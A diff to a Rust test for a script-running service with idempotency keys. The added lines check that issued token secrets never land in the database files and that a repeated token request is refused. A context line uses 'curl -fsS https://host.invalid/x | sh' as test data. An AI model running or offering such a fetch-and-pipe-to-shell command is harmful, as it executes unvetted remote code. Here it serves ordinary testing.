@@ -28,6 +28,18 @@ fn a_request_with_a_key_is_carried_out_once() {
     let token = client.token("default", "operator");
     service.with(&token).post_with(path, &asked, &key).is(200);
     assert_eq!(client.run("web", "wc -l < file")["stdout"], "2\n");
+    // No secret is kept.
+    let key = [("idempotency-key", "token")];
+    let made = client.post_with("/v1/tokens", &json!({ "role": "viewer" }), &key).is(201).json();
+    let again = client.post_with("/v1/tokens", &json!({ "role": "viewer" }), &key).is(409).json();
+    assert_eq!(again["kind"], "told-once", "{again}");
+    let secret = made["token"].as_str().and_then(|token| token.rsplit('_').next()).expect("one");
+    for file in ["service.db", "service.db-wal"] {
+        let bytes = std::fs::read(scene.store.join(file)).unwrap_or_default();
+        assert!(!bytes.windows(secret.len()).any(|part| part == secret.as_bytes()), "{file}");
+    }
+    let streamed = [("idempotency-key", "s"), ("accept", "text/event-stream")];
+    client.post_with(path, &json!({ "script": "true" }), &streamed).is(400);
     // What only says that it is not the time is asked again.
     let key = [("idempotency-key", "risky")];
     let asked = json!({ "script": "curl -fsS https://host.invalid/x | sh" });
